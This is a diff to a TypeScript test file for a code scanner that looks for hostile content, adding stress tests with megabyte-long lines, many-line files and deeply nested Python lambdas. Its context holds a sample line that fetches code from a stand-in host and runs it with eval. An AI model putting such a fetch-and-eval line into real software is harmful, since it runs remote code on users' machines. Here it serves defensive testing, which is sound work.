@@ -4,7 +4,7 @@ import { describe, it } from 'node:test';
 import type { TreeFile } from '@haetae/detect/repository';
 import { scanFiles } from './scan-files.ts';
 
-const LENGTH = 250_000;
+const LENGTH = 1_000_000;
 const encoder = new TextEncoder();
 const filled = (piece: string): string => piece.repeat(Math.ceil(LENGTH / piece.length));
 
@@ -49,7 +49,7 @@ const FILE_MILLISECONDS = 4_000;
 const HOSTILE = 'fetch("https://stage-two.example").then((r) => r.text()).then(eval);';
 const other: TreeFile = { path: 'other.js', bytes: encoder.encode(HOSTILE) };
 
-describe('a line of a quarter of a megabyte, made to hold a rule up, costs its time and hides nothing', () => {
+describe('a line of a megabyte, made to hold a rule up, costs its time and hides nothing', () => {
   for (const [what, piece] of PIECES)
     it(what, async () => {
       const bytes = encoder.encode(filled(piece));
@@ -64,6 +64,26 @@ describe('a line of a quarter of a megabyte, made to hold a rule up, costs its t
     });
 });
 
+describe('many lines, each with a name of its own, take the time of their length', () => {
+  const LINES: readonly (readonly [string, string, (at: number) => string])[] = [
+    ['variables of a shell', 'a.sh', (at) => `name${at}=b;$c\n`],
+    ['variables of a shell made of others', 'a.sh', (at) => `name${at}=$name${at - 1}$name${at - 2}; run\n`],
+    ['names of Python', 'a.py', (at) => `name${at} = name${at - 1} + "b"\n`],
+    ['names of JavaScript', 'a.js', (at) => `const name${at} = name${at - 1} + "b";\n`],
+    ['keys of JSON', 'package.json', (at) => `${at === 0 ? '{' : ','}"name${at}": "b"\n`],
+    ['settings', '.env', (at) => `NAME_${at}=b\n`],
+  ];
+  for (const [what, path, line] of LINES)
+    it(what, async () => {
+      const bytes = encoder.encode(Array.from({ length: 40_000 }, (_, at) => line(at)).join(''));
+      const { unscanned } = await scanFiles([{ path, bytes }], { fileMilliseconds: FILE_MILLISECONDS });
+      assert.deepEqual(
+        unscanned.filter(({ reason }) => reason === 'timeout'),
+        [],
+      );
+    });
+});
+
 describe('what nobody can parse is named, and the rest is judged', () => {
   const CASES: readonly (readonly [string, string, string])[] = [
     ['brackets a hundred thousand deep', 'deep.js', '['.repeat(100_000)],
@@ -72,6 +92,7 @@ describe('what nobody can parse is named, and the rest is judged', () => {
     ['arrows to arrows', 'arrow.js', `${'a=>'.repeat(200_000)}a`],
     ['backslashes, on which a parser takes the square of their number', 'slash.js', '\\'.repeat(200_000)],
     ['Python in brackets', 'deep.py', `x = ${'('.repeat(100_000)}`],
+    ['functions of Python in functions', 'deep.py', `x = ${'lambda x:'.repeat(100_000)}x`],
   ];
   for (const [what, path, text] of CASES)
     it(what, async () => {
